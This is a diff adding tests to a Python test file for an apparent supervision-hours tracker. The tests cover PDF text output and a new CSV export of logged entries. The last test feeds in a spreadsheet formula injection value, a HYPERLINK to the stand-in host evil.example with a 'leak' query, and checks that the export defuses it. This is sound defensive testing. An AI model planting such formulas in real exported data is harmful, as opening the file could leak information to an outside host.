@@ -1,9 +1,10 @@
-"""The board documents, read back: what the PDFs say (through pypdf's text).
+"""The board documents, read back: what the PDFs say (through pypdf's text) and the CSV's cells.
 
 Statements are built by hand, so no database is touched; the expected hours are worked out here
 from the minutes, not by the code under test.
 """
 
+import csv
 import datetime
 import io
 import unicodedata
@@ -13,10 +14,12 @@ from pypdf import PdfReader
 
 from hours.documents import (
     CHANGED_SINCE,
+    CSV_HEADER,
     NOT_SIGNED,
     STILL_MATCHES,
     UNSIGNED_EXPLANATION,
     day_label,
+    entries_csv,
     hours_label,
     unsigned_statement_pdf,
     verification_pdf,
@@ -296,3 +299,56 @@ def test_decomposed_letters_print_as_one_and_glyphs_the_font_lacks_show_as_missi
     assert decomposed != "Ngũgĩ"
     text = pdf_text(weekly_log_pdf(statement(supervisee_name=f"{decomposed} 李")))
     assert "Supervisee: Ngũgĩ \ufffd" in text
+
+
+# The CSV.
+
+
+def read_rows(entries) -> list[list[str]]:
+    stream = io.StringIO()
+    entries_csv(entries, stream)
+    return list(csv.reader(io.StringIO(stream.getvalue())))
+
+
+def test_the_csv_has_a_header_and_one_row_per_entry_in_words():
+    rows = read_rows(ENTRIES)
+    assert rows[0] == list(CSV_HEADER)
+    assert rows[0][:4] == ["Date", "Category", "Hours", "Minutes"]
+    assert len(rows) == 1 + len(ENTRIES)
+    assert rows[1] == [
+        "2026-11-02",
+        "Direct client contact",
+        "0.83",
+        "50",
+        "Session log",
+        "In person",
+        "Couple",
+        "No",
+        "",
+        "",
+        "",
+        "",
+    ]
+    assert rows[2] == [
+        "2026-11-04",
+        "Supervision received",
+        "1.5",
+        "90",
+        "Supervision meeting",
+        "",
+        "",
+        "",
+        "Group",
+        "5",
+        "Yes",
+        "Video",
+    ]
+    assert rows[5][7] == "Yes"  # the simulated client
+
+
+def test_the_csv_neutralises_a_value_a_spreadsheet_would_run():
+    formula = '=HYPERLINK("https://evil.example/?leak","Open")'
+    rows = read_rows([entry(3, 30, "direct", modality=formula, client_unit="@SUM(A1)")])
+    assert rows[1][5] == "'" + formula
+    assert rows[1][6] == "'@SUM(A1)"
+    assert rows[1][2:4] == ["0.5", "30"]  # numbers stay numbers
